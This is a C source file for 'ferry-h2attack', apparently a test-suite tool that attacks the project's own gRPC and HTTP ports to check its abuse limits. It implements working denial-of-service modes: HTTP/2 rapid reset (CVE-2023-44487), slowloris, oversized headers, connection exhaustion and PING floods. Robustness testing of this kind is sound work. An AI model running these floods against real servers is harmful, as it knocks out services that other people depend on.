/* SPDX-License-Identifier: MIT */
/*
 * h2attack.c - ferry-h2attack: a hostile peer of ferryd's network ports
 * (issue 19, "HTTP/2 abuse"), for bench/abuse.sh and tests/grpc/test_abuse.sh.
 * It writes HTTP/2 frames (and HTTP/1.1 requests) over plain TCP itself,
 * with a minimal HPACK encoder (literals only, no Huffman), so that it can
 * send what no well-behaved library would.
 *
 *   ferry-h2attack MODE -p PORT [-a ADDR] [-b SRC_ADDR] [-c CONNS] [-t SECONDS]
 *                  [-i INTERVAL_MS] [-s BYTES] [-d BODY_FILE] [--path PATH]
 *
 * -b connects from SRC_ADDR (e.g. 127.0.0.2: another loopback address, an
 * attacker at another address than the good client, for per-address limits).
 * HTTP/2 (the gRPC port) modes, each over CONNS connections (default 8),
 * each connection opened again when the server closes it:
 *   streams    opens streams with HEADERS (and BODY_FILE's first half as
 *              DATA when -d is given) and never ends them, as many as the
 *              server lets each connection have; a refused stream is
 *              replaced by a new one at once
 *   reset      "rapid reset" (CVE-2023-44487): HEADERS (and the whole of
 *              BODY_FILE as DATA with END_STREAM) then RST_STREAM(CANCEL),
 *              in a tight loop, 64 pairs a write
 *   slowloris  each connection starts one header block and sends it one
 *              byte a CONTINUATION frame every INTERVAL_MS (1000), never
 *              ending it
 *   bigmeta    requests whose metadata is BYTES (default 1 MiB) of one
 *              header, in HEADERS + CONTINUATION frames, in a loop
 *   conns      CONNS connections (give thousands) that send the preface
 *              and SETTINGS, then hold on doing nothing
 *   raw        CONNS bare TCP connections that send nothing at all
 *   ping       PING frames in a tight loop (keepalive enforcement)
 * HTTP/1.1 (the HTTP port) modes:
 *   h1-slowloris  a request line, then its headers one byte every
 *                 INTERVAL_MS, never ending them
 *   h1-bigheaders requests with a BYTES header, in a loop
 *   h1-conns      CONNS connections that send nothing
 *
 * Printed at the end, one line of name=value: connections opened, failed
 * and closed by the server, the most open at once, GOAWAYs and their last
 * error code, streams opened, RST_STREAMs sent and received, PINGs sent,
 * HTTP/1.1 responses and their last status, bytes each way.  Exit status
 * 0, or 2 for a usage error; the attacker never decides success, the
 * caller's good client does.
 */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <arpa/inet.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define H2A_MAX_CONNS 60000
#define H2A_WBUF_MAX (4u << 20)  /* unsent bytes one connection may pile up */
#define H2A_FRAME_MAX 16384u     /* SETTINGS_MAX_FRAME_SIZE's default */

enum h2a_mode {
	H2A_STREAMS, H2A_RESET, H2A_SLOWLORIS, H2A_BIGMETA, H2A_CONNS, H2A_RAW, H2A_PING,
	H2A_H1_SLOWLORIS, H2A_H1_BIGHEADERS, H2A_H1_CONNS,
};

static const char *const h2a__modes[] = {
	"streams", "reset", "slowloris", "bigmeta", "conns", "raw", "ping",
	"h1-slowloris", "h1-bigheaders", "h1-conns",
};

/* A growable byte buffer; the owner frees .p. */
struct h2a_buf {
	unsigned char *p;
	size_t len, cap;
};

/* One connection; the single thread of main() owns all of them. */
struct h2a_conn {
	int fd;
	bool connecting, open;
	uint32_t next_sid;       /* next client stream id (odd) */
	unsigned streams;        /* streams of ours the server has not ended */
	struct h2a_buf w;        /* bytes not yet written */
	size_t woff;
	unsigned char hdr[9];    /* the frame header being read */
	unsigned hlen;
	uint32_t left;           /* payload bytes still to read */
	unsigned char pl[64];    /* the start of the payload */
	uint32_t plen, ptype, pflags, psid;
	double next_at;          /* slowloris: when the next byte goes */
	size_t slow_pos;         /* slowloris: bytes of the block sent */
	bool prefaced;
};

static struct {
	enum h2a_mode mode;
	const char *addr, *path;
	const char *bind_addr;   /* -b: the source address, or NULL */
	int port, conns, interval_ms;
	double seconds;
	size_t bytes;
	unsigned char *body;
	size_t body_len;
	struct h2a_buf block;    /* the request's header block */
	struct h2a_buf big;      /* bigmeta: the oversized block; h1: the request */
	/* counters */
	unsigned long opened, failed, closed, goaways, streams, rst_sent, rst_recv, pings,
		responses, settings_acked;
	unsigned long long sent, recvd;
	long last_goaway_code, last_status;
	int open_now, max_open;
	char first_error[128];
} h2a;

static volatile sig_atomic_t h2a__stop;

static double h2a__now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void h2a__put(struct h2a_buf *b, const void *p, size_t n)
{
	if (b->len + n > b->cap) {
		size_t cap = b->cap ? b->cap : 4096;
		while (cap < b->len + n)
			cap *= 2;
		unsigned char *q = realloc(b->p, cap);
		if (!q) {
			fprintf(stderr, "ferry-h2attack: out of memory\n");
			exit(1);
		}
		b->p = q;
		b->cap = cap;
	}
	memcpy(b->p + b->len, p, n);
	b->len += n;
}

static void h2a__frame(struct h2a_buf *b, unsigned type, unsigned flags, uint32_t sid,
		       const void *payload, size_t n)
{
	unsigned char h[9] = { (unsigned char)(n >> 16), (unsigned char)(n >> 8), (unsigned char)n,
			       (unsigned char)type, (unsigned char)flags,
			       (unsigned char)(sid >> 24 & 0x7f), (unsigned char)(sid >> 16),
			       (unsigned char)(sid >> 8), (unsigned char)sid };
	h2a__put(b, h, 9);
	if (n)
		h2a__put(b, payload, n);
}

/* HPACK integer with an N-bit prefix; first carries the pattern bits. */
static void h2a__hp_int(struct h2a_buf *b, unsigned first, unsigned nbits, size_t v)
{
	unsigned max = (1u << nbits) - 1;
	unsigned char c;
	if (v < max) {
		c = (unsigned char)(first | v);
		h2a__put(b, &c, 1);
		return;
	}
	c = (unsigned char)(first | max);
	h2a__put(b, &c, 1);
	v -= max;
	while (v >= 128) {
		c = (unsigned char)(v % 128 + 128);
		h2a__put(b, &c, 1);
		v /= 128;
	}
	c = (unsigned char)v;
	h2a__put(b, &c, 1);
}

static void h2a__hp_str(struct h2a_buf *b, const char *s, size_t n)
{
	h2a__hp_int(b, 0, 7, n);
	h2a__put(b, s, n);
}

/* A literal without indexing: the name by static-table index, or new. */
static void h2a__hp_lit(struct h2a_buf *b, unsigned index, const char *name, const char *value,
			size_t vlen)
{
	if (index) {
		h2a__hp_int(b, 0, 4, index);
	} else {
		h2a__hp_int(b, 0, 4, 0);
		h2a__hp_str(b, name, strlen(name));
	}
	h2a__hp_str(b, value, vlen);
}

/* The header block of a gRPC call to --path; extra: one more header of
 * that many bytes (bigmeta). */
static void h2a__grpc_block(struct h2a_buf *b, size_t extra)
{
	static const unsigned char post_http[] = { 0x83, 0x86 }; /* :method POST, :scheme http */
	h2a__put(b, post_http, sizeof(post_http));
	h2a__hp_lit(b, 4, NULL, h2a.path, strlen(h2a.path));    /* :path */
	h2a__hp_lit(b, 1, NULL, "localhost", 9);                 /* :authority */
	h2a__hp_lit(b, 31, NULL, "application/grpc", 16);        /* content-type */
	h2a__hp_lit(b, 0, "te", "trailers", 8);
	if (extra) {
		char *v = malloc(extra);
		if (!v)
			exit(1);
		memset(v, 'a', extra);
		h2a__hp_lit(b, 0, "x-ferry-abuse", v, extra);
		free(v);
	}
}

/* HEADERS (+ CONTINUATION) carrying a whole block. */
static void h2a__headers(struct h2a_buf *w, uint32_t sid, const struct h2a_buf *block,
			 bool end_stream)
{
	size_t off = 0;
	bool first = true;
	do {
		size_t n = block->len - off > H2A_FRAME_MAX ? H2A_FRAME_MAX : block->len - off;
		unsigned flags = (off + n == block->len ? 0x4 : 0) | (first && end_stream ? 0x1 : 0);
		h2a__frame(w, first ? 0x1 : 0x9, flags, sid, block->p + off, n);
		off += n;
		first = false;
	} while (off < block->len);
}

static void h2a__data(struct h2a_buf *w, uint32_t sid, const unsigned char *p, size_t n,
		      bool end_stream)
{
	size_t off = 0;
	do {
		size_t k = n - off > H2A_FRAME_MAX ? H2A_FRAME_MAX : n - off;
		h2a__frame(w, 0x0, off + k == n && end_stream ? 0x1 : 0, sid, p + off, k);
		off += k;
	} while (off < n);
}

static bool h2a__is_h1(void)
{
	return h2a.mode >= H2A_H1_SLOWLORIS;
}

/* Opens connection c (non-blocking connect); false when the socket
 * itself cannot be had (our fds: counted as failed). */
static bool h2a__connect(struct h2a_conn *c)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons((uint16_t)h2a.port) };
	inet_pton(AF_INET, h2a.addr, &sa.sin_addr);
	memset(c, 0, sizeof(*c));
	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (c->fd < 0) {
		h2a.failed++;
		return false;
	}
	int one = 1;
	setsockopt(c->fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (h2a.bind_addr) {
		struct sockaddr_in ba = { .sin_family = AF_INET };
		inet_pton(AF_INET, h2a.bind_addr, &ba.sin_addr);
		if (bind(c->fd, (struct sockaddr *)&ba, sizeof(ba))) {
			if (!h2a.first_error[0])
				snprintf(h2a.first_error, sizeof(h2a.first_error), "bind: %s",
					 strerror(errno));
			close(c->fd);
			c->fd = -1;
			h2a.failed++;
			return false;
		}
	}
	if (connect(c->fd, (struct sockaddr *)&sa, sizeof(sa)) && errno != EINPROGRESS) {
		if (!h2a.first_error[0])
			snprintf(h2a.first_error, sizeof(h2a.first_error), "connect: %s",
				 strerror(errno));
		close(c->fd);
		c->fd = -1;
		h2a.failed++;
		return false;
	}
	c->connecting = true;
	c->next_sid = 1;
	c->next_at = h2a__now();
	return true;
}

static void h2a__close(struct h2a_conn *c, bool by_server)
{
	if (c->fd < 0)
		return;
	close(c->fd);
	c->fd = -1;
	if (c->open)
		h2a.open_now--;
	if (by_server)
		h2a.closed++;
	free(c->w.p);
	c->w = (struct h2a_buf){ 0 };
	c->woff = 0;
	c->open = c->connecting = false;
}

/* What the mode writes once the connection is up. */
static void h2a__on_open(struct h2a_conn *c)
{
	static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
	h2a.opened++;
	h2a.open_now++;
	if (h2a.open_now > h2a.max_open)
		h2a.max_open = h2a.open_now;
	c->open = true;
	c->connecting = false;
	if (h2a.mode == H2A_RAW || h2a__is_h1())
		return;
	h2a__put(&c->w, preface, sizeof(preface) - 1);
	/* Our SETTINGS: a large window, so that answers are not held back. */
	unsigned char s[6] = { 0, 4, 0x7f, 0xff, 0xff, 0xff };
	h2a__frame(&c->w, 0x4, 0, 0, s, sizeof(s));
	unsigned char wu[4] = { 0x7f, 0xff, 0x00, 0x00 };
	h2a__frame(&c->w, 0x8, 0, 0, wu, sizeof(wu));
	c->prefaced = true;
}

/* A frame the server sent, payload's first bytes in c->pl. */
static void h2a__on_frame(struct h2a_conn *c)
{
	switch (c->ptype) {
	case 0x0: /* DATA: give the connection's window back */
		if (c->plen) {
			unsigned char wu[4] = { (unsigned char)(c->plen >> 24 & 0x7f),
						(unsigned char)(c->plen >> 16),
						(unsigned char)(c->plen >> 8), (unsigned char)c->plen };
			h2a__frame(&c->w, 0x8, 0, 0, wu, 4);
		}
		if ((c->pflags & 0x1) && c->streams)
			c->streams--;
		break;
	case 0x1: /* HEADERS: trailers end the stream */
		if ((c->pflags & 0x1) && c->streams)
			c->streams--;
		break;
	case 0x3:
		h2a.rst_recv++;
		if (c->streams)
			c->streams--;
		break;
	case 0x4:
		if (!(c->pflags & 0x1)) {
			h2a__frame(&c->w, 0x4, 0x1, 0, NULL, 0);
			h2a.settings_acked++;
		}
		break;
	case 0x6:
		if (!(c->pflags & 0x1) && c->plen == 8 && h2a.mode != H2A_PING)
			h2a__frame(&c->w, 0x6, 0x1, 0, c->pl, 8);
		break;
	case 0x7:
		h2a.goaways++;
		if (c->plen >= 8)
			h2a.last_goaway_code = (long)((uint32_t)c->pl[4] << 24 | (uint32_t)c->pl[5] << 16 |
						      (uint32_t)c->pl[6] << 8 | c->pl[7]);
		break;
	}
}

static void h2a__parse(struct h2a_conn *c, const unsigned char *p, size_t n)
{
	if (h2a__is_h1() || h2a.mode == H2A_RAW) {
		/* Count status lines (a body could hold one too: these are
		 * error answers with short bodies). */
		for (size_t i = 0; i + 12 <= n; i++) {
			if (!memcmp(p + i, "HTTP/1.1 ", 9)) {
				h2a.responses++;
				h2a.last_status = strtol((const char *)p + i + 9, NULL, 10);
			}
		}
		return;
	}
	while (n) {
		if (c->hlen < 9) {
			size_t k = 9 - c->hlen < n ? 9 - c->hlen : n;
			memcpy(c->hdr + c->hlen, p, k);
			c->hlen += (unsigned)k;
			p += k;
			n -= k;
			if (c->hlen < 9)
				return;
			c->plen = c->left = (uint32_t)c->hdr[0] << 16 | (uint32_t)c->hdr[1] << 8 | c->hdr[2];
			c->ptype = c->hdr[3];
			c->pflags = c->hdr[4];
		}
		size_t k = c->left < n ? c->left : n;
		uint32_t have = c->plen - c->left;
		if (have < sizeof(c->pl)) {
			size_t m = sizeof(c->pl) - have < k ? sizeof(c->pl) - have : k;
			memcpy(c->pl + have, p, m);
		}
		c->left -= (uint32_t)k;
		p += k;
		n -= k;
		if (!c->left) {
			h2a__on_frame(c);
			c->hlen = 0;
		}
	}
}

/* The mode's work on an open connection, bounded by what it has not yet
 * written. */
static void h2a__work(struct h2a_conn *c, double now)
{
	if (c->w.len - c->woff > H2A_WBUF_MAX / 2)
		return;
	switch (h2a.mode) {
	case H2A_STREAMS:
		/* Keep up to 1024 streams of ours open: past the server's
		 * limit they are refused, and replaced. */
		for (int i = 0; i < 64 && c->streams < 1024 && c->next_sid < 0x7fff0000u; i++) {
			h2a__headers(&c->w, c->next_sid, &h2a.block, false);
			if (h2a.body_len)
				h2a__data(&c->w, c->next_sid, h2a.body, h2a.body_len / 2, false);
			c->next_sid += 2;
			c->streams++;
			h2a.streams++;
		}
		break;
	case H2A_RESET:
		for (int i = 0; i < 64 && c->next_sid < 0x7fff0000u; i++) {
			h2a__headers(&c->w, c->next_sid, &h2a.block, !h2a.body_len);
			if (h2a.body_len)
				h2a__data(&c->w, c->next_sid, h2a.body, h2a.body_len, true);
			unsigned char cancel[4] = { 0, 0, 0, 0x8 };
			h2a__frame(&c->w, 0x3, 0, c->next_sid, cancel, 4);
			c->next_sid += 2;
			h2a.streams++;
			h2a.rst_sent++;
		}
		break;
	case H2A_SLOWLORIS:
	case H2A_H1_SLOWLORIS:
		if (now < c->next_at)
			break;
		c->next_at = now + h2a.interval_ms / 1000.0;
		if (h2a.mode == H2A_H1_SLOWLORIS) {
			if (!c->slow_pos) {
				static const char line[] =
					"POST /v2/models/identity/infer HTTP/1.1\r\nHost: localhost\r\nX-a: ";
				h2a__put(&c->w, line, sizeof(line) - 1);
			} else {
				h2a__put(&c->w, "a", 1);
			}
		} else if (!c->slow_pos) {
			/* HEADERS without END_HEADERS: one byte of the block. */
			h2a__frame(&c->w, 0x1, 0, c->next_sid, h2a.block.p, 1);
			h2a.streams++;
		} else {
			/* The block is sent again and again, a byte at a time:
			 * it never ends. */
			size_t i = c->slow_pos % h2a.block.len;
			h2a__frame(&c->w, 0x9, 0, c->next_sid, h2a.block.p + i, 1);
		}
		c->slow_pos++;
		break;
	case H2A_BIGMETA:
		for (int i = 0; i < 4 && c->next_sid < 0x7fff0000u; i++) {
			h2a__headers(&c->w, c->next_sid, &h2a.big, true);
			c->next_sid += 2;
			h2a.streams++;
		}
		break;
	case H2A_H1_BIGHEADERS:
		/* Pipelined is fine: the server answers the first and closes. */
		if (c->w.len - c->woff < h2a.big.len)
			h2a__put(&c->w, h2a.big.p, h2a.big.len);
		break;
	case H2A_PING:
		for (int i = 0; i < 256; i++) {
			unsigned char opaque[8] = { 0 };
			memcpy(opaque, &h2a.pings, sizeof(h2a.pings) < 8 ? sizeof(h2a.pings) : 8);
			h2a__frame(&c->w, 0x6, 0, 0, opaque, 8);
			h2a.pings++;
		}
		break;
	case H2A_CONNS:
	case H2A_RAW:
	case H2A_H1_CONNS:
		break;
	}
}

static void h2a__usage(FILE *f)
{
	fprintf(f, "usage: ferry-h2attack MODE -p PORT [-a ADDR] [-b SRC_ADDR] [-c CONNS] [-t SECONDS]\n"
		   "                      [-i INTERVAL_MS] [-s BYTES] [-d BODY_FILE] [--path PATH]\n"
		   "modes:");
	for (size_t i = 0; i < sizeof(h2a__modes) / sizeof(h2a__modes[0]); i++)
		fprintf(f, " %s", h2a__modes[i]);
	fprintf(f, "\n");
}

static void h2a__on_signal(int sig)
{
	(void)sig;
	h2a__stop = 1;
}

static void h2a__read_body(const char *path)
{
	FILE *f = fopen(path, "rb");
	if (!f) {
		fprintf(stderr, "ferry-h2attack: %s: %s\n", path, strerror(errno));
		exit(2);
	}
	struct h2a_buf b = { 0 };
	unsigned char tmp[65536];
	size_t n;
	while ((n = fread(tmp, 1, sizeof(tmp), f)) > 0)
		h2a__put(&b, tmp, n);
	fclose(f);
	h2a.body = b.p;
	h2a.body_len = b.len;
}

int main(int argc, char **argv)
{
	static const struct option longs[] = {
		{ "path", required_argument, NULL, 'P' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	h2a.addr = "127.0.0.1";
	h2a.path = "/inference.GRPCInferenceService/ModelInfer";
	h2a.conns = 8;
	h2a.seconds = 5;
	h2a.interval_ms = 1000;
	h2a.bytes = 1u << 20;
	if (argc < 2 || !strcmp(argv[1], "-h") || !strcmp(argv[1], "--help")) {
		h2a__usage(argc < 2 ? stderr : stdout);
		return argc < 2 ? 2 : 0;
	}
	size_t m = 0;
	while (m < sizeof(h2a__modes) / sizeof(h2a__modes[0]) && strcmp(argv[1], h2a__modes[m]))
		m++;
	if (m == sizeof(h2a__modes) / sizeof(h2a__modes[0])) {
		fprintf(stderr, "ferry-h2attack: unknown mode '%s'\n", argv[1]);
		h2a__usage(stderr);
		return 2;
	}
	h2a.mode = (enum h2a_mode)m;
	argc--;
	argv++;
	int o;
	while ((o = getopt_long(argc, argv, "a:b:p:c:t:i:s:d:h", longs, NULL)) != -1) {
		switch (o) {
		case 'a': h2a.addr = optarg; break;
		case 'b': h2a.bind_addr = optarg; break;
		case 'p': h2a.port = atoi(optarg); break;
		case 'c': h2a.conns = atoi(optarg); break;
		case 't': h2a.seconds = atof(optarg); break;
		case 'i': h2a.interval_ms = atoi(optarg); break;
		case 's': h2a.bytes = strtoull(optarg, NULL, 0); break;
		case 'd': h2a__read_body(optarg); break;
		case 'P': h2a.path = optarg; break;
		case 'h': h2a__usage(stdout); return 0;
		default: h2a__usage(stderr); return 2;
		}
	}
	struct in_addr ia;
	if (h2a.port <= 0 || h2a.port > 65535 || h2a.conns < 1 || h2a.conns > H2A_MAX_CONNS ||
	    h2a.seconds <= 0 || h2a.interval_ms < 1 || h2a.bytes < 1 || h2a.bytes > (64u << 20) ||
	    inet_pton(AF_INET, h2a.addr, &ia) != 1 ||
	    (h2a.bind_addr && inet_pton(AF_INET, h2a.bind_addr, &ia) != 1)) {
		fprintf(stderr, "ferry-h2attack: -p 1..65535, -c 1..%d, -t > 0, -i >= 1, "
				"-s 1..64M, -a and -b IPv4 addresses\n", H2A_MAX_CONNS);
		return 2;
	}
	/* As many fds as the hard limit allows: the many-connections modes. */
	struct rlimit rl;
	if (!getrlimit(RLIMIT_NOFILE, &rl)) {
		rl.rlim_cur = rl.rlim_max;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	signal(SIGPIPE, SIG_IGN);
	signal(SIGINT, h2a__on_signal);
	signal(SIGTERM, h2a__on_signal);

	h2a__grpc_block(&h2a.block, 0);
	if (h2a.mode == H2A_BIGMETA) {
		h2a__grpc_block(&h2a.big, h2a.bytes);
	} else if (h2a.mode == H2A_H1_BIGHEADERS) {
		static const char line[] = "GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\nX-a: ";
		h2a__put(&h2a.big, line, sizeof(line) - 1);
		for (size_t i = 0; i < h2a.bytes; i++)
			h2a__put(&h2a.big, "a", 1);
		h2a__put(&h2a.big, "\r\n\r\n", 4);
	}

	struct h2a_conn *cs = calloc((size_t)h2a.conns, sizeof(*cs));
	struct pollfd *pf = calloc((size_t)h2a.conns, sizeof(*pf));
	unsigned char *rb = malloc(1 << 16);
	if (!cs || !pf || !rb)
		return 1;
	for (int i = 0; i < h2a.conns; i++)
		cs[i].fd = -1;
	double t0 = h2a__now(), end = t0 + h2a.seconds;
	while (!h2a__stop) {
		double now = h2a__now();
		if (now >= end)
			break;
		for (int i = 0; i < h2a.conns; i++) {
			struct h2a_conn *c = &cs[i];
			/* (Re)connect: an attacker comes back at once. */
			if (c->fd < 0)
				h2a__connect(c);
			if (c->open)
				h2a__work(c, now);
			pf[i].fd = c->fd;
			pf[i].events = (short)(POLLIN | (c->connecting || c->w.len > c->woff ? POLLOUT : 0));
			pf[i].revents = 0;
		}
		int wait_ms = 100;
		if (h2a.mode == H2A_STREAMS || h2a.mode == H2A_RESET || h2a.mode == H2A_BIGMETA ||
		    h2a.mode == H2A_PING || h2a.mode == H2A_H1_BIGHEADERS)
			wait_ms = 0;
		if (poll(pf, (nfds_t)h2a.conns, wait_ms) < 0 && errno != EINTR)
			break;
		for (int i = 0; i < h2a.conns; i++) {
			struct h2a_conn *c = &cs[i];
			if (c->fd < 0 || !pf[i].revents)
				continue;
			if (c->connecting && (pf[i].revents & (POLLOUT | POLLERR | POLLHUP))) {
				int err = 0;
				socklen_t el = sizeof(err);
				getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &el);
				if (err) {
					if (!h2a.first_error[0])
						snprintf(h2a.first_error, sizeof(h2a.first_error),
							 "connect: %s", strerror(err));
					h2a.failed++;
					h2a__close(c, false);
					continue;
				}
				h2a__on_open(c);
			}
			if (pf[i].revents & (POLLIN | POLLHUP | POLLERR)) {
				ssize_t n = read(c->fd, rb, 1 << 16);
				if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR)) {
					h2a__close(c, true);
					continue;
				}
				if (n > 0) {
					h2a.recvd += (unsigned long long)n;
					h2a__parse(c, rb, (size_t)n);
				}
			}
			if (c->open && c->w.len > c->woff) {
				ssize_t n = write(c->fd, c->w.p + c->woff, c->w.len - c->woff);
				if (n < 0 && errno != EAGAIN && errno != EINTR) {
					h2a__close(c, true);
					continue;
				}
				if (n > 0) {
					h2a.sent += (unsigned long long)n;
					c->woff += (size_t)n;
					if (c->woff == c->w.len)
						c->woff = c->w.len = 0;
				}
			}
		}
	}
	int still = h2a.open_now;
	for (char *q = h2a.first_error; *q; q++)
		if (*q == ' ')
			*q = '_';
	for (int i = 0; i < h2a.conns; i++)
		h2a__close(&cs[i], false);
	printf("mode=%s seconds=%.1f conns=%d opened=%lu failed=%lu closed_by_server=%lu "
	       "max_open=%d open_at_end=%d goaways=%lu last_goaway_code=%ld streams=%lu "
	       "rst_sent=%lu rst_received=%lu pings=%lu responses=%lu last_status=%ld "
	       "bytes_sent=%llu bytes_received=%llu%s%s\n",
	       h2a__modes[h2a.mode], h2a__now() - t0, h2a.conns, h2a.opened, h2a.failed, h2a.closed,
	       h2a.max_open, still, h2a.goaways, h2a.last_goaway_code, h2a.streams, h2a.rst_sent,
	       h2a.rst_recv, h2a.pings, h2a.responses, h2a.last_status, h2a.sent, h2a.recvd,
	       h2a.first_error[0] ? " first_error=" : "", h2a.first_error);
	free(cs);
	free(pf);
	free(rb);
	free(h2a.block.p);
	free(h2a.big.p);
	free(h2a.body);
	return 0;
}
